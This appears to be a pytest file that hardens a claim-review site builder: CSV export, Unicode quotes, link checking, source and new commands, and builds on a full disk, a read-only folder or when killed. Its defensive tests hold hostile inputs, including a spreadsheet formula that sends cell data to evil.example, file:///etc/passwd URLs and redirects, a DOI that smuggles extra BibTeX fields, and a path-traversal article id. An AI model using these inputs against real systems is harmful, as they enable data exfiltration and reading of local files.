"""Hardening that is not a single bad file: CSV formulas, Unicode forms, long articles, the `links`,
`source` and `new` commands, a full disk, a read-only folder, concurrent and killed builds."""

from __future__ import annotations

import csv
import errno
import http.server
import io
import os
import random
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import EPOCH, REPO, run_cli
from test_build import tree_digest

CLAIM = "claims/effects/coffee-wakes-you-up.yaml"


def _env(**extra) -> dict:
    return dict(os.environ, SOURCE_DATE_EPOCH=EPOCH, **extra)


def _replace(root: Path, path: str, old: str, new: str) -> None:
    target = root / path
    text = target.read_text(encoding="utf-8")
    assert old in text, (path, old)
    target.write_text(text.replace(old, new, 1), encoding="utf-8")


# --- open data ----------------------------------------------------------------------------------------

def test_csv_cells_cannot_start_a_formula(mini):
    _replace(mini, CLAIM, "claim: Coffee makes people more alert within minutes.",
             'claim: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Click\\")"')
    result = run_cli("build", cwd=mini, env=_env())
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((mini / "site/data/claims.csv").read_text(encoding="utf-8"))))
    cell = next(r["claim"] for r in rows if r["id"] == "coffee-wakes-you-up")
    assert cell == "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())


# --- quotes ---------------------------------------------------------------------------------------------

def test_quote_in_decomposed_unicode_matches_the_composed_article(mini):
    _replace(mini, "sources/articles/blog.txt", "Coffee wakes you up within minutes.",
             "Coffee wakes you up within minutes at the caf\u00e9.")
    _replace(mini, CLAIM, "quote: Coffee wakes you up within minutes.",
             "quote: Coffee wakes you up within minutes at the cafe\u0301.")
    result = run_cli("check", "--strict", cwd=mini, env=_env())
    assert result.returncode == 0, result.stderr


def test_misquote_hint_in_a_4_mb_article_takes_under_a_second():
    from claimsite.validate import _closest

    rng = random.Random(7)
    words = ["sleep", "kratom", "night", "dose", "study", "people", "reported", "effect", "users", "the", "of", "and"]
    text = " ".join(rng.choice(words) for _ in range(800_000))[: 4 * 1024 * 1024 - 200]
    middle = len(text) // 2
    text = text[:middle] + " Kratom is a natural sleep aid that works for everyone. " + text[middle:]
    started = time.perf_counter()
    near = _closest("Kratom is a natural sleep aid that works for all.", text)
    missing = _closest("Zebras quarrel over xylophones.", text)
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0, f"{elapsed:.1f} s"
    assert near.startswith("Kratom is a natural sleep aid that works for")
    assert missing == ""


# --- `links` ----------------------------------------------------------------------------------------

class _Fake(http.server.BaseHTTPRequestHandler):
    hang = 0.0
    seen: list[str] = []

    def log_message(self, *args):
        pass

    def do_GET(self):
        _Fake.seen.append(self.path)
        if self.path == "/doi/":
            self.send_response(200)
            self.end_headers()
            return
        if self.path.startswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", "file:///etc/passwd")
            self.end_headers()
            return
        if _Fake.hang:
            time.sleep(_Fake.hang)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'{"message": {"title": ["Fine"]}}')


@pytest.fixture
def fake():
    _Fake.hang, _Fake.seen = 0.0, []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Fake)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    yield base
    server.shutdown()


def _links_env(base: str) -> dict:
    return _env(CLAIMSITE_DOI_RESOLVER=f"{base}/doi/", CLAIMSITE_PUBMED=f"{base}/pubmed/",
                CLAIMSITE_CROSSREF=f"{base}/crossref/")


def test_links_never_opens_what_check_rejects(mini, fake):
    _replace(mini, "sources/refs.bib", "url = {https://example.org/agency/caffeine}", "url = {file:///etc/passwd}")
    result = run_cli("links", cwd=mini, env=_links_env(fake), timeout=60)
    assert "Traceback" not in result.stderr
    assert "root:" not in result.stdout + result.stderr
    assert "0 problem(s)" in result.stderr, result.stderr
    assert result.returncode == 0


def test_links_refuses_a_redirect_to_a_local_file(mini, fake):
    _replace(mini, "sources/refs.bib", "url = {https://example.org/agency/caffeine}", f"url = {{{fake}/redirect}}")
    result = run_cli("links", cwd=mini, env=_links_env(fake), timeout=60)
    assert "Traceback" not in result.stderr
    assert "does not resolve: HTTP 302" in result.stderr, result.stderr


def test_links_without_network_says_so_once_and_fails(mini):
    closed = "http://127.0.0.1:9"  # the discard port: nothing listens
    started = time.perf_counter()
    result = run_cli("links", cwd=mini, env=_links_env(closed), timeout=60)
    assert time.perf_counter() - started < 30
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if "error:" in line]
    assert len(errors) == 1 and "no network" in errors[0], result.stderr
    assert "does not resolve" not in result.stderr


def test_links_stops_at_its_deadline_and_names_what_was_left(mini, fake):
    _Fake.hang = 60.0
    started = time.perf_counter()
    result = run_cli("links", "--timeout", "30", "--deadline", "3", cwd=mini, env=_links_env(fake), timeout=60)
    elapsed = time.perf_counter() - started
    assert elapsed < 20, f"{elapsed:.0f} s"
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert "deadline" in result.stderr and "not checked" in result.stderr


# --- `source` and `new` -------------------------------------------------------------------------------

def test_source_refuses_a_doi_that_would_inject_bibtex_fields(mini):
    before = (mini / "sources").glob("*.bib")
    before = {p.name: p.read_bytes() for p in before}
    result = run_cli("source", "--doi", "10.1000/a},url={file:///etc/passwd", cwd=mini)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "is not a DOI" in result.stderr
    assert {p.name: p.read_bytes() for p in (mini / "sources").glob("*.bib")} == before
    result = run_cli("source", "--url", "https://example.org/x},note={injected", cwd=mini)
    assert result.returncode == 1 and "Traceback" not in result.stderr


def test_new_refuses_an_article_outside_the_project(mini):
    secret = mini.parent / "secret.txt"
    secret.write_text("The launch code is 0000.\n")
    result = run_cli("new", "leak", "--topic", "effects", "--article", "../../../secret",
                     "--quote", "The launch code is 0000.", cwd=mini)
    assert result.returncode == 1, result.stderr
    assert "is not an article id" in result.stderr
    assert not list((mini / "claims").rglob("leak.yaml"))


# --- the output folder: full disk, read-only, concurrent and killed builds -------------------------------

def _in_process_build(root: Path, capsys) -> tuple[int, str]:
    from claimsite import cli

    code = cli.main(["--root", str(root), "build"])
    captured = capsys.readouterr()
    return code, captured.err + captured.out


def test_full_disk_is_a_message_and_the_previous_site_stays(mini, capsys, monkeypatch):
    assert run_cli("build", cwd=mini, env=_env()).returncode == 0
    before = tree_digest(mini / "site")
    import mkdocs.utils

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(mini / "site" / "x.html"))

    monkeypatch.setattr(mkdocs.utils, "write_file", full)
    monkeypatch.chdir(mini)
    code, output = _in_process_build(mini, capsys)
    assert code == 1
    assert "error: could not write the site: the disk is full" in output, output
    assert "hint:" in output
    assert tree_digest(mini / "site") == before
    assert not [p for p in mini.iterdir() if p.name.startswith(".site.")]


def test_read_only_output_parent_is_a_message(mini, capsys, monkeypatch, tmp_path):
    import tempfile

    def refused(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(kwargs.get("dir", "")))

    monkeypatch.setattr(tempfile, "mkdtemp", refused)
    monkeypatch.chdir(mini)
    code, output = _in_process_build(mini, capsys)
    assert code == 1
    assert "error: cannot write here: permission denied" in output, output
    assert "hint:" in output


def test_a_second_build_while_one_runs_says_so(mini):
    import fcntl

    folder = mini / ".claimsite-cache"
    folder.mkdir(exist_ok=True)
    with open(folder / "build.lock", "a+") as handle:
        fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as a running build holds it
        result = run_cli("build", cwd=mini, env=_env())
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "another build of this review is running" in result.stderr
    assert "hint: wait for it to finish" in result.stderr
    assert not (mini / "site").exists()


def test_two_builds_at_once_never_crash(mini):
    cmd = [sys.executable, str(REPO / "build.py"), "build"]
    procs = [subprocess.Popen(cmd, cwd=mini, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    results = [(p.wait(timeout=120), p.stderr.read()) for p in procs]
    for code, err in results:
        assert "Traceback" not in err, err
        assert code == 0 or "another build of this review is running" in err, err
    assert any(code == 0 for code, _ in results)
    assert (mini / "site" / "index.html").is_file()


def test_leftovers_of_killed_builds_are_cleared_and_a_lost_site_put_back(mini):
    assert run_cli("build", cwd=mini, env=_env()).returncode == 0
    before = tree_digest(mini / "site")
    # killed between the two renames: the previous site is only in .site.old-*
    (mini / "site").rename(mini / ".site.old-4242")
    building = mini / ".site.building-abc123"
    building.mkdir()
    (building / ".claimsite-output").write_text("x")
    (building / "half.html").write_text("<p>half")
    foreign = mini / ".site.old-notmine"
    foreign.mkdir()
    (foreign / "keep.txt").write_text("not made by build")
    # the next build fails on a content error: the previous site must be back all the same
    claim = mini / CLAIM
    good = claim.read_text()
    claim.write_text(good.replace("verdict: \"true\"", "verdict: [broken"))
    result = run_cli("build", cwd=mini, env=_env())
    assert result.returncode == 1
    assert tree_digest(mini / "site") == before
    claim.write_text(good)
    result = run_cli("build", cwd=mini, env=_env())
    assert result.returncode == 0, result.stderr
    assert tree_digest(mini / "site") == before
    assert sorted(p.name for p in mini.iterdir() if p.name.startswith(".site.")) == [".site.old-notmine"]


def test_a_build_killed_at_any_moment_leaves_a_complete_site(mini):
    assert run_cli("build", cwd=mini, env=_env()).returncode == 0
    before = tree_digest(mini / "site")
    cmd = [sys.executable, str(REPO / "build.py"), "build"]
    rng = random.Random(3)
    for _ in range(6):
        proc = subprocess.Popen(cmd, cwd=mini, env=_env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rng.uniform(0.3, 2.5))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        site = mini / "site"
        assert site.is_dir(), "no site left"
        assert tree_digest(site) == before
    assert run_cli("build", cwd=mini, env=_env()).returncode == 0
    assert tree_digest(mini / "site") == before
    assert not [p for p in mini.iterdir() if p.name.startswith(".site.")]


def test_serve_with_a_broken_mkdocs_yml_is_a_message(mini):
    _replace(mini, "mkdocs.yml", "  - claimsite\n", "")
    result = run_cli("serve", cwd=mini, env=_env(), timeout=60)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "mkdocs.yml:" in result.stderr and "claimsite plugin is not enabled" in result.stderr
